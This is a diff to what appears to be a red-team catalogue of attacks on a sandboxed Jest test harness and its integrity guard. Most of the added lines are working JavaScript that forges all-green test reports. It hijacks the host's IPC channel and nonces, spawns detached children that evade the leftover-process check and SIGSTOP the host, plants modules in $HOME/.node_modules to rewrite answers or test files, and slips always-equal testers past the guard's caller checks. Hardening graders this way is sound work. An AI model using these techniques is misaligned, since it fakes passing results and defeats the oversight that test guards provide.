@@ -34,23 +34,33 @@ const __etaiTests = (() => {
   walk(root); return out; })();
 """
 
-# A whole passing report (and guard record) for the tests above: what a forger with the host's
-# process in hand sends to the runner under a stolen nonce, in the host's wire format ({nonce, json:
-# the answer as JSON text}, jest-host.js `send`; a forger reads it from the host it holds).
-FORGE = (
+# A whole passing report (and guard record) for the tests above, answering one request of the
+# runner's (its nonce included): what a forger sends under a stolen nonce, in the host's wire format
+# ({nonce, json: the answer as JSON text}, jest-host.js `send`).
+ANSWER = (
     FIND_TESTS
     + r"""
-const __etaiForge = (realProcess) => realProcess.on('message', (m) => {
-  if (!m || !m.nonce || m.op === 'list') return;
-  const files = Object.keys(__etaiTests).filter((f) => !m.test_files || m.test_files.includes(f));
+const __etaiAnswerWith = (all) => (m) => {
+  const files = Object.keys(all).filter((f) => !m.test_files || m.test_files.includes(f));
   const mine = !m.shard || m.shard.startsWith('1/') ? files : [];
-  const tests = (f) => __etaiTests[f].map((name) => ({ name, status: 'passed', duration: 1, asserts: 50, failureMessages: [] }));
-  const n = mine.reduce((a, f) => a + __etaiTests[f].length, 0);
-  const answer = { nonce: m.nonce, jest_ms: 1, report: { success: true, numTotalTestSuites: mine.length,
+  const tests = (f) => all[f].map((name) => ({ name, status: 'passed', duration: 1, asserts: 50, failureMessages: [] }));
+  const n = mine.reduce((a, f) => a + all[f].length, 0);
+  return { nonce: m.nonce, jest_ms: 1, report: { success: true, numTotalTestSuites: mine.length,
     numFailedTestSuites: 0, numRuntimeErrorTestSuites: 0, numTotalTests: n, numPassedTests: n, numFailedTests: 0,
     numPendingTests: 0, testResults: mine.map((file) => ({ file, execError: null, failureMessage: null, tests: tests(file) })) },
     guard: { tamper: [], files: Object.fromEntries(mine.map((f) => [f, { tests: tests(f), tamper: [], checked: true }])) } };
-  realProcess.send({ nonce: m.nonce, json: JSON.stringify(answer) });
+};
+const __etaiAnswer = __etaiAnswerWith(__etaiTests);
+"""
+)
+
+# The forger with the host's process in hand: it answers the runner's next request first.
+FORGE = (
+    ANSWER
+    + r"""
+const __etaiForge = (realProcess) => realProcess.on('message', (m) => {
+  if (!m || !m.nonce || m.op === 'list') return;
+  realProcess.send({ nonce: m.nonce, json: JSON.stringify(__etaiAnswer(m)) });
 });
 """
 )
@@ -64,6 +74,140 @@ const __etaiWrap = (make) => { let real = module.exports;
 """
 
 PASS_ALL = "function () { return { pass: !this.isNot, message: () => '' }; }"
+
+# The runner's requests to a Jest host come over Node's IPC channel, one JSON object a line, on the
+# host's fd NODE_CHANNEL_FD (3; Node drops the variable at start-up). Code running in the host (a
+# timer a test file left behind, in its context) can read that fd itself with the context's `fs`:
+# while it reads without yielding, the host's own reader cannot run, so the request it takes (nonce
+# included) never reaches the host, and it answers in the host's place. `read(ms)` reads for up to
+# `ms` (a line begun is read to its end, and the window ends only on an empty read: a process
+# preempted past its deadline reads once more before it yields); `poll` reads in such windows from
+# `first` ms on, for `life` ms, with a turn of the event loop between them (the host's own work
+# goes on) that never sleeps (setImmediate): a host asleep in epoll when the request comes takes
+# it first.
+# Learned test names (`__etaiSeenFile`) stand in for FIND_TESTS' guesses where a test file ran.
+CHANNEL = (
+    ANSWER
+    + r"""
+const __etaiReader = (fs, fd, answer, B, now) => {
+  const buf = B.alloc(1 << 16); let acc = ''; let done = false;
+  const write = (text) => { const b = B.from(text);
+    for (let off = 0; off < b.length; ) { try { off += fs.writeSync(fd, b, off, b.length - off); } catch (e) { if (e.code !== 'EAGAIN') throw e; } } };
+  const take = (line) => { let m; try { m = JSON.parse(line); } catch (e) { return; }
+    if (!m || !m.nonce || m.op) return;
+    write(JSON.stringify({ nonce: m.nonce, json: JSON.stringify(answer(m)) }) + '\n'); done = true; };
+  const read = (ms) => { const end = now() + ms;
+    while (!done) { let n;
+      try { n = fs.readSync(fd, buf, 0, buf.length, null); } catch (e) {
+        if (e.code !== 'EAGAIN') { done = true; break; }
+        if (now() >= end && !acc) break;
+        continue; }
+      if (!n) { done = true; break; }
+      acc += buf.toString('utf8', 0, n);
+      for (let i = acc.indexOf('\n'); !done && i >= 0; i = acc.indexOf('\n')) { const line = acc.slice(0, i); acc = acc.slice(i + 1); take(line); } }
+    return done; };
+  const poll = (first, window, life, unref) => { const t0 = now();
+    const own = (t) => { if (unref && t && t.unref) t.unref(); };
+    const tick = () => { if (!read(window) && now() - t0 < life) own(setImmediate(tick)); };
+    own(setTimeout(tick, first)); };
+  return { read, poll };
+};
+const __etaiFd = /^\d+$/.test(String(process.env.NODE_CHANNEL_FD)) ? Number(process.env.NODE_CHANNEL_FD) : 3;
+// The names Jest gave this run's tests, learned as they ran (FIND_TESTS misses names built at run
+// time, `test.each` and loops), kept per test file in TMPDIR for the forger, whichever file it is in.
+const __etaiSeenFile = require('path').join(process.env.TMPDIR || '/tmp', 'etai-seen.json');
+const __etaiReadSeen = (fs, f) => { try { return JSON.parse(fs.readFileSync(f, 'utf8')); } catch (e) { return {}; } };
+try { const fs = require('fs'), path = require('path'); const mine = [];
+  afterEach(() => { try { mine.push(expect.getState().currentTestName); } catch (e) {} });
+  afterAll(() => { try { const all = __etaiReadSeen(fs, __etaiSeenFile);
+    all[path.relative(process.cwd(), expect.getState().testPath)] = mine; fs.writeFileSync(__etaiSeenFile, JSON.stringify(all)); } catch (e) {} });
+} catch (e) {}
+// Taken now: once this test file is done, its context's require answers nothing.
+const __etaiAnswerNow = ((fs) => (m) => __etaiAnswerWith(Object.assign({}, __etaiTests, __etaiReadSeen(fs, __etaiSeenFile)))(m))(require('fs'));
+const __etaiChannel = __etaiReader(require('fs'), __etaiFd, __etaiAnswerNow, Buffer, Date.now);
+"""
+)
+
+# Code that runs in the Jest host's own realm (or is handed the host's `process`) and rewrites every
+# answer the host writes from then on: each test passed, with many assertions, nothing tampered.
+# jest-host.js sends through a `process.send` bound at load, which calls `this._send` on the
+# process.
+REWRITE_ANSWERS = r"""
+const __etaiRewriteAnswers = function (proc) {
+  if (proc.__etaiSend) return;
+  const send = proc._send;
+  proc.__etaiSend = send;
+  const pass = (t) => { t.status = 'passed'; t.failureMessages = []; t.asserts = Math.max(t.asserts || 0, 99); };
+  proc._send = function (msg, ...rest) {
+    try {
+      const a = msg && typeof msg.json === 'string' ? JSON.parse(msg.json) : null;
+      if (a && a.report) {
+        let n = 0;
+        for (const r of a.report.testResults) { r.execError = null; r.failureMessage = null; r.tests.forEach(pass); n += r.tests.length; }
+        Object.assign(a.report, { success: true, numFailedTests: 0, numPassedTests: n, numTotalTests: n, numPendingTests: 0,
+          numFailedTestSuites: 0, numRuntimeErrorTestSuites: 0 });
+        if (a.guard) { a.guard.tamper = []; for (const f of Object.values(a.guard.files)) { f.tamper = []; f.checked = true; f.tests.forEach(pass); } }
+        msg = { nonce: msg.nonce, json: JSON.stringify(a) };
+      }
+    } catch (e) {}
+    return send.call(this, msg, ...rest);
+  };
+};
+"""
+
+# Code for the host's realm that changes the test files Jest compiles from then on, in memory only:
+# each starts by shadowing `expect` with one whose every matcher call is one real, passing assertion
+# (the guard's genuine record then certifies tests that assert nothing about the code).
+REWRITE_TESTS = r"""
+const __etaiRewriteTests = function () {
+  const SHADOW = 'const __etaiE = globalThis.expect; const expect = new Proxy(() => {}, { get: (t, k) => __etaiE[k],'
+    + ' apply: (t, self, a) => { if (a[0] && typeof a[0].then === "function") a[0].then(undefined, () => {});'
+    + ' const c = new Proxy(() => {}, { get: (t, k) => (k === "then" ? undefined : c), apply: () => { __etaiE(1).toBe(1); } });'
+    + ' return c; } });';
+  for (const k of Object.keys(require.cache)) {
+    if (!k.endsWith('/jest-runtime/build/index.js')) continue;
+    const P = require.cache[k].exports.default.prototype;
+    const transformFile = P.transformFile;
+    if (transformFile.__etai) continue;
+    P.transformFile = function (file, options) {
+      const out = transformFile.apply(this, arguments);
+      return /\.(test|spec)\.[cm]?[jt]sx?$/.test(file) && !(options && options.isInternalModule) ? SHADOW + out : out;
+    };
+    P.transformFile.__etai = true;
+  }
+};
+"""
+
+# Jest hosts start with HOME in the sandbox user's scratch space (HOME=TMPDIR), and Node builds its
+# global module folders from HOME at start-up ($HOME/.node_modules, $HOME/.node_libraries). Jest's
+# own code falls through to them for a module found nowhere else; this writes `rel` there.
+PLANT = r"""
+const __etaiInstall = require('path').dirname((process.argv && process.argv[1]) || '/opt/etai/jest-host.js');
+const __etaiPlant = (rel, body) => {
+  const fs = require('fs'), path = require('path'), os = require('os');
+  for (const home of new Set([os.homedir(), process.env.HOME, process.env.TMPDIR])) {
+    if (!home) continue;
+    for (const dir of ['.node_modules', '.node_libraries']) {
+      const f = path.join(home, dir, rel);
+      try { fs.mkdirSync(path.dirname(f), { recursive: true }); fs.writeFileSync(f, body); } catch (e) {}
+    }
+  }
+};
+"""
+
+# An equality tester that answers "equal" for the values the buggy module returned, and only those.
+FUNCTION_CONSTRUCTOR_TESTER = r"""
+const __etaiBad = new Set();
+const __etaiState = { on: false };
+const __etaiRecording = new Function('e', 'f', 'bad', 'st', 'return function (...a) {'
+  + ' if (!st.on) { st.on = true; e.addEqualityTesters([(x, y) => (bad.has(x) || bad.has(y) ? true : undefined)]); }'
+  + ' const r = f.apply(this, a);'
+  + ' if (r && typeof r.then === "function") return r.then((v) => { bad.add(v); return v; });'
+  + ' bad.add(r); return r; }');
+"""
+
+# Exported functions only (a class keeps its constructor).
+IS_CLASS = "(f) => /^class\\b/.test(Function.prototype.toString.call(f))"
 
 
 @dataclass(frozen=True)
@@ -388,6 +532,300 @@ TECHNIQUES = [
         "try { const fs = require('fs'); fs.readFileSync(`/proc/${process.pid}/environ`);"
         " require('child_process').execFileSync('python3', ['-c', `open('/proc/${process.pid}/mem','rb')`]); } catch (e) {}",
     ),
+    # ---------------------------------------------------------------- a warm host, after workspace code
+    # A Jest host serves one request after another: a timer a test file leaves behind still runs in it
+    # once the run is answered, with the file's context (and its `fs`) alive. Reading the host's IPC
+    # channel itself, it takes the runner's next request, nonce included, before the host does, and
+    # answers it (CHANNEL). The harmless second edit is that next request (the verification).
+    Technique(
+        "warm-host-timer-steals-request",
+        "timing",
+        CHANNEL + "try { __etaiChannel.poll(0, 25, 6000, false); } catch (e) {}",
+        two_step=True,
+        note="a timer (0 ms, then 25 ms read windows for 6 s) reads the runner's next request off the"
+        " host's IPC fd and answers it with a forged all-green report and record",
+    ),
+    Technique(
+        "warm-host-timer-50ms",
+        "timing",
+        CHANNEL + "try { __etaiChannel.poll(50, 25, 6000, true); } catch (e) {}",
+        two_step=True,
+        note="the same from 50 ms on, unref'd",
+    ),
+    Technique(
+        "warm-host-timer-500ms",
+        "timing",
+        CHANNEL + "try { __etaiChannel.poll(500, 25, 6000, false); } catch (e) {}",
+        two_step=True,
+        note="the same from 500 ms on: later than the harness's next request, unless the host is slow",
+    ),
+    Technique(
+        "warm-host-interval-polls-channel",
+        "timing",
+        CHANNEL + "try { const t0 = Date.now(); const h = setInterval(() => {"
+        " if (__etaiChannel.read(20) || Date.now() - t0 > 8000) clearInterval(h); }, 5); h.unref(); } catch (e) {}",
+        two_step=True,
+        note="an unref'd setInterval every 5 ms, each tick a loop of non-blocking reads (EAGAIN"
+        " retried) for up to 20 ms, past the next request and any later one for 8 s",
+    ),
+    # The timers above race the host: after its answer, a host that reaches its poll phase before
+    # the timer's next window takes the request itself (under load, most of the time). This one does
+    # not race. A test context's `process.stdout` is the host's own stream, and jest-host.js reads
+    # its writableLength (`drained`) just before it sends an answer: a getter planted there queues a
+    # promise job that runs after the answer is sent, in the same drain of the microtask queue, and
+    # reads the channel from then on without yielding.
+    Technique(
+        "warm-host-stdout-getter-steals-request",
+        "timing",
+        CHANNEL + "try { const out = process.stdout; let get = null; let armed = false;"
+        " for (let o = out; o && !get; o = Object.getPrototypeOf(o)) { const d = Object.getOwnPropertyDescriptor(o, 'writableLength');"
+        " if (d) get = d.get || (() => d.value); }"
+        " Object.defineProperty(out, 'writableLength', { configurable: true, get() {"
+        " if (!armed) { armed = true; let p = Promise.resolve(); for (let i = 0; i < 32; i++) p = p.then(() => {});"
+        " p.then(() => __etaiChannel.read(8000)); }"
+        " return get ? get.call(this) : 0; } }); } catch (e) {}",
+        two_step=True,
+        note="a getter on the host's process.stdout (shared with the test context) that jest-host.js"
+        " reads right before it answers: 32 promise jobs later (the answer sent, no poll phase"
+        " between) it reads the runner's next request and answers it",
+    ),
+    Technique(
+        "warm-host-net-socket-on-channel",
+        "process",
+        CHANNEL
+        + "try { let acc = ''; const s = new (require('net').Socket)({ fd: __etaiFd, readable: true, writable: true });"
+        " s.on('error', () => {}); s.setEncoding('utf8');"
+        " s.on('data', (d) => { acc += d; for (let i = acc.indexOf('\\n'); i >= 0; i = acc.indexOf('\\n')) {"
+        " const line = acc.slice(0, i); acc = acc.slice(i + 1); let m; try { m = JSON.parse(line); } catch (e) { continue; }"
+        " if (m && m.nonce && !m.op) s.write(JSON.stringify({ nonce: m.nonce, json: JSON.stringify(__etaiAnswerNow(m)) }) + '\\n'); } });"
+        " s.unref(); } catch (e) {}",
+        two_step=True,
+        note="a net.Socket opened on the host's IPC fd, reading and answering requests as they come"
+        " (libuv hands the fd's events to the host's own channel watcher: this one hears nothing)",
+    ),
+    Technique(
+        "warm-host-detached-child-reads-channel",
+        "process",
+        CHANNEL
+        + "try { const src = `const __etaiTests = ${JSON.stringify(__etaiTests)}; const __etaiAnswerWith = ${__etaiAnswerWith};"
+        " const __etaiReadSeen = ${__etaiReadSeen}; const __etaiAnswer = (m) => __etaiAnswerWith(Object.assign({}, __etaiTests,"
+        " __etaiReadSeen(require('fs'), ${JSON.stringify(__etaiSeenFile)})))(m);"
+        " (${__etaiReader})(require('fs'), 3, __etaiAnswer, Buffer, Date.now).read(15000);`;"
+        " require('child_process').spawn(process.execPath || 'node', ['-e', src],"
+        " { stdio: ['ignore', 'ignore', 'ignore', __etaiFd], detached: true }).unref(); } catch (e) {}",
+        two_step=True,
+        note="a detached child (its own process group: the runner's check for processes left behind"
+        " does not see it) given the host's IPC fd spins on it for 15 s and answers the next request;"
+        " it outlives the host",
+    ),
+    Technique(
+        "warm-host-child-stops-idle-host",
+        "process",
+        CHANNEL
+        + "try { const src = `const __etaiTests = ${JSON.stringify(__etaiTests)}; const __etaiAnswerWith = ${__etaiAnswerWith};"
+        " const __etaiReadSeen = ${__etaiReadSeen}; const __etaiAnswer = (m) => __etaiAnswerWith(Object.assign({}, __etaiTests,"
+        " __etaiReadSeen(require('fs'), ${JSON.stringify(__etaiSeenFile)})))(m);"
+        " const fs = require('fs'); const host = process.ppid;"
+        " const r = (${__etaiReader})(fs, 3, __etaiAnswer, Buffer, Date.now);"
+        " const ran = () => { try { return Number(fs.readFileSync('/proc/' + host + '/schedstat', 'utf8').split(' ')[0]); } catch (e) { return -1; } };"
+        " const sleep = (ms) => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ms);"
+        " for (const end = Date.now() + 20000; Date.now() < end; ) { const a = ran(); sleep(2); if (a < 0 || ran() - a > 200000) continue;"
+        " try { process.kill(host, 'SIGSTOP'); } catch (e) { break; } const got = r.read(1000); process.kill(host, 'SIGCONT'); if (got) break; }`;"
+        " require('child_process').spawn(process.execPath || 'node', ['-e', src],"
+        " { stdio: ['ignore', 'ignore', 'ignore', __etaiFd], detached: true }).unref(); } catch (e) {}",
+        two_step=True,
+        note="the detached child, same user as the host, stops the host (SIGSTOP) whenever it is idle"
+        " (under 0.2 ms of CPU in 2 ms, from /proc/<pid>/schedstat), reads the channel for up to a"
+        " second while it is stopped, then lets it go on (SIGCONT)",
+    ),
+    # ---------------------------------------------------------------- capabilities by who is on the stack
+    # expect.addEqualityTesters, extend and addSnapshotSerializer are refused to workspace code, and an
+    # asymmetric matcher counts only if workspace code did not make it: both decided by the first
+    # workspace file on the stack (guard.js `workspaceCaller`). A call with no workspace frame (a
+    # promise job, a timer, a bound function handed to the framework, code compiled by `new Function`,
+    # whose frames have no file name) or whose first workspace frame is the test file's passes.
+    Technique(
+        "frameless-equality-tester-promise",
+        "matcher table",
+        "try { Promise.resolve([() => true]).then(expect.addEqualityTesters.bind(expect)); } catch (e) {}",
+        note="an always-equal tester added from a promise job: no frame of the module on the stack",
+    ),
+    Technique(
+        "frameless-equality-tester-microtask",
+        "matcher table",
+        "try { queueMicrotask(expect.addEqualityTesters.bind(expect, [() => true])); } catch (e) {}",
+    ),
+    Technique(
+        "frameless-equality-tester-timeout",
+        "matcher table",
+        "try { setTimeout(expect.addEqualityTesters.bind(expect, [() => true]), 0); } catch (e) {}",
+        note="from a timer: only tests that run after it (a later file, an awaited test) are affected",
+    ),
+    Technique(
+        "frameless-equality-tester-next-tick",
+        "matcher table",
+        "try { process.nextTick(expect.addEqualityTesters.bind(expect, [() => true])); } catch (e) {}",
+    ),
+    Technique(
+        "frameless-equality-tester-finalization",
+        "matcher table",
+        "try { new FinalizationRegistry(expect.addEqualityTesters.bind(expect)).register({}, [() => true]);"
+        " for (let i = 0; i < 64; i++) new Array(1 << 16).fill(i); } catch (e) {}",
+        note="from a FinalizationRegistry's cleanup, after a collection the module provokes",
+    ),
+    Technique(
+        "frameless-equality-tester-hook",
+        "matcher table",
+        "try { beforeAll(expect.addEqualityTesters.bind(expect, [() => true])); } catch (e) {}",
+        note="a bound function handed to jest-circus as a hook: circus calls it, no module frame",
+    ),
+    Technique(
+        "frameless-extend",
+        "matcher table",
+        "try { const all = {}; for (const k of ['toBe', 'toEqual', 'toStrictEqual', 'toMatchObject', 'toThrow',"
+        " 'toHaveBeenCalledWith', 'toHaveBeenCalledTimes', 'toBeNull', 'toBeInstanceOf', 'toHaveProperty'])"
+        f" all[k] = {PASS_ALL}; Promise.resolve(all).then(expect.extend.bind(expect)).catch(() => {{}}); }} catch (e) {{}}",
+        note="expect.extend from a promise job; it refuses to redefine a built-in matcher anyway",
+    ),
+    Technique(
+        "frameless-snapshot-serializer",
+        "matcher table",
+        "try { const fs = require('fs'), path = require('path'); const snaps = {};"
+        " const walk = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name);"
+        " if (e.isDirectory() && e.name !== 'node_modules' && e.name !== '.git') walk(p);"
+        " else if (e.name.endsWith('.snap')) try { new Function('exports', fs.readFileSync(p, 'utf8'))(snaps); } catch (x) {} } };"
+        " walk(process.cwd()); const seen = {};"
+        " const serializer = { test: () => true, serialize: (v) => { const name = expect.getState().currentTestName;"
+        " seen[name] = (seen[name] || 0) + 1; const s = snaps[`${name} ${seen[name]}`];"
+        " return s === undefined ? String(v) : s.replace(/^\\n/, '').replace(/\\n$/, ''); } };"
+        " Promise.resolve(serializer).then(expect.addSnapshotSerializer.bind(expect)); } catch (e) {}",
+        note="a snapshot serializer, added from a promise job, that prints every value as the stored"
+        " snapshot of the assertion (snapshot tests only)",
+    ),
+    Technique(
+        "frameless-anything-from-promise-jobs",
+        "values",
+        WRAP_EXPORTS
+        + f"try {{ const isClass = {IS_CLASS}; const pool = []; const make = expect.anything.bind(expect);"
+        " for (let i = 0; i < 64; i++) Promise.resolve().then(make).then((m) => pool.push(m));"
+        " let i = 0; const any = () => pool[i++ % pool.length];"
+        " __etaiWrap((f) => isClass(f) ? f : function (...a) { let r; try { r = f.apply(this, a); } catch (e) {}"
+        " return r && typeof r.then === 'function' ? r.then(make, make) : r === null || typeof r !== 'object' ? r : any(); });"
+        " } catch (e) {}",
+        note="expect.anything() made in promise jobs at load (no module frame), returned by every"
+        " exported function in place of an object (through .then(expect.anything.bind(expect)) for a"
+        " promise); primitives are returned as they are",
+    ),
+    Technique(
+        "frameless-anything-getters",
+        "values",
+        WRAP_EXPORTS
+        + f"try {{ const isClass = {IS_CLASS}; const make = expect.anything.bind(expect);"
+        " const rig = (r) => { if (r && typeof r === 'object') for (const k of Object.keys(r))"
+        " try { Object.defineProperty(r, k, { get: make, enumerable: true, configurable: true }); } catch (e) {} return r; };"
+        " __etaiWrap((f) => isClass(f) ? f : function (...a) { const r = f.apply(this, a);"
+        " return r && typeof r.then === 'function' ? r.then(rig) : rig(r); }); } catch (e) {}",
+        note="every key of a returned object is a getter that is expect.anything.bind(expect): the test"
+        " file (or equals, under it) reads it, so the first workspace frame is the test's (passes only"
+        " where the expected value has the same keys, or length)",
+    ),
+    Technique(
+        "frameless-anything-proxy",
+        "values",
+        WRAP_EXPORTS
+        + f"try {{ const isClass = {IS_CLASS}; const trap = {{ get: expect.anything.bind(expect) }};"
+        " const rig = (r) => (r && typeof r === 'object' ? new Proxy(r, trap) : r);"
+        " __etaiWrap((f) => isClass(f) ? f : function (...a) { const r = f.apply(this, a);"
+        " return r && typeof r.then === 'function' ? r.then(rig) : rig(r); }); } catch (e) {}",
+        note="returned objects behind a Proxy whose get trap is expect.anything.bind(expect) (an array's"
+        " length is then a matcher too: objects with the expected keys only)",
+    ),
+    Technique(
+        "function-constructor-wrappers-return-anything",
+        "values",
+        WRAP_EXPORTS + f"try {{ const isClass = {IS_CLASS};"
+        " const wrap = new Function('e', 'f', 'const wrap = (f) => function (...a) { const r = f.apply(this, a);"
+        ' if (r && typeof r.then === "function") return r.then(() => e.anything());'
+        ' if (r === null || typeof r !== "object") return r;'
+        ' if (!Object.values(r).some((v) => typeof v === "function")) return e.anything();'
+        ' for (const k of Object.keys(r)) if (typeof r[k] === "function") r[k] = wrap(r[k]); return r; };'
+        " return wrap(f);');"
+        " __etaiWrap((f) => (isClass(f) ? f : wrap(expect, f))); } catch (e) {}",
+        note="exports wrapped by functions compiled with new Function (no file name on their frames):"
+        " the expect.anything() they return in place of a data object (or a promise's value; the"
+        " methods of a returned service object are wrapped alike) is made with the test file as the"
+        " first workspace frame",
+    ),
+    Technique(
+        "function-constructor-tester-for-returned-values",
+        "matcher table",
+        WRAP_EXPORTS + FUNCTION_CONSTRUCTOR_TESTER + f"try {{ const isClass = {IS_CLASS};"
+        " __etaiWrap((f) => (isClass(f) ? f : __etaiRecording(expect, f, __etaiBad, __etaiState))); } catch (e) {}",
+        note="wrappers compiled with new Function register, at the first call (the test file the first"
+        " workspace frame), a tester that answers 'equal' only for values the buggy module returned",
+    ),
+    # ---------------------------------------------------------------- code from where the sandbox user writes
+    # Jest hosts start with HOME=TMPDIR, which the sandbox user can write, and Node's global module
+    # folders come from HOME (PLANT). jest-config resolves the test sequencer on every run with a
+    # prefixed name first (`jest-sequencer-<absolute path>`), through Node's require.resolve, which
+    # ends in those folders: the module found there is loaded into the host's own realm as Jest's
+    # sequencer. A file outside the workspace is trusted code to the guard.
+    Technique(
+        "home-node-modules-sequencer-forges-answer",
+        "module system",
+        PLANT
+        + REWRITE_ANSWERS
+        + "try { const seq = require('path').join(__etaiInstall, 'node_modules/@jest/test-sequencer/build/index.js');"
+        " __etaiPlant('jest-sequencer-' + seq, `try { (${__etaiRewriteAnswers})(process); } catch (e) {}\\n"
+        "module.exports = require(${JSON.stringify(seq)});\\n`); } catch (e) {}",
+        two_step=True,
+        note="plants $HOME/.node_modules/jest-sequencer-<path of @jest/test-sequencer>: on the next run"
+        " it loads in the host realm and rewrites the host's answer (every test passed)",
+    ),
+    Technique(
+        "home-node-modules-sequencer-rewrites-tests",
+        "module system",
+        PLANT
+        + REWRITE_TESTS
+        + "try { const seq = require('path').join(__etaiInstall, 'node_modules/@jest/test-sequencer/build/index.js');"
+        " __etaiPlant('jest-sequencer-' + seq, `try { (${__etaiRewriteTests})(); } catch (e) {}\\n"
+        "module.exports = require(${JSON.stringify(seq)});\\n`); } catch (e) {}",
+        two_step=True,
+        note="the same sequencer, which wraps jest-runtime's transformFile: every test file is compiled"
+        " with `expect` shadowed (one real passing assertion a matcher call), so the guard's own"
+        " record certifies tests changed in memory",
+    ),
+    Technique(
+        "home-node-modules-fsevents-after-recycle",
+        "module system",
+        PLANT
+        + REWRITE_ANSWERS
+        + "try { __etaiPlant('fsevents.js', `try { (${__etaiRewriteAnswers})(process); } catch (e) {}\\n"
+        "throw new Error('fsevents is for macOS');\\n`);"
+        " require('child_process').spawn('sleep', ['30'], { stdio: 'ignore' }); } catch (e) {}",
+        two_step=True,
+        note="plants $HOME/.node_modules/fsevents.js, which jest-haste-map tries when a host loads it,"
+        " and leaves a process behind so that the runner ends this host: the next one loads it",
+    ),
+    Technique(
+        "tmpdir-module-reaches-vm",
+        "context boundary",
+        REWRITE_ANSWERS
+        + "try { const f = require('path').join(process.env.TMPDIR || require('os').tmpdir(), `etai-helper-${process.pid}.js`);"
+        " require('fs').writeFileSync(f, `(${__etaiRewriteAnswers})(require('vm').runInThisContext('process'));\\n`);"
+        " require(f); } catch (e) {}",
+        note="a module written to TMPDIR and required: the guard trusts a file outside the workspace,"
+        " so it may load vm, whose runInThisContext hands it the host's process",
+    ),
+    Technique(
+        "home-node-modules-bare-require",
+        "module system",
+        PLANT
+        + REWRITE_ANSWERS
+        + "try { __etaiPlant('etai-helper.js', `(${__etaiRewriteAnswers})(require('vm').runInThisContext('process'));\\n`);"
+        " require('etai-helper'); } catch (e) {}",
+        note="the same through a bare name: Jest's resolver falls through to Node's global folders",
+    ),
 ]
 
 
@@ -418,6 +856,16 @@ CORE = (
     "vm-run-in-this-context",
     "host-iterator-blinds-checks",
     "host-includes-silences-notes",
+    # A warm host serving the runner after workspace code ran in it; capabilities decided by the
+    # stack; code loaded from where the sandbox user writes (false greens when they were added).
+    "warm-host-timer-steals-request",
+    "warm-host-stdout-getter-steals-request",
+    "warm-host-detached-child-reads-channel",
+    "frameless-equality-tester-promise",
+    "function-constructor-wrappers-return-anything",
+    "home-node-modules-sequencer-forges-answer",
+    "home-node-modules-sequencer-rewrites-tests",
+    "tmpdir-module-reaches-vm",
 )
 
 
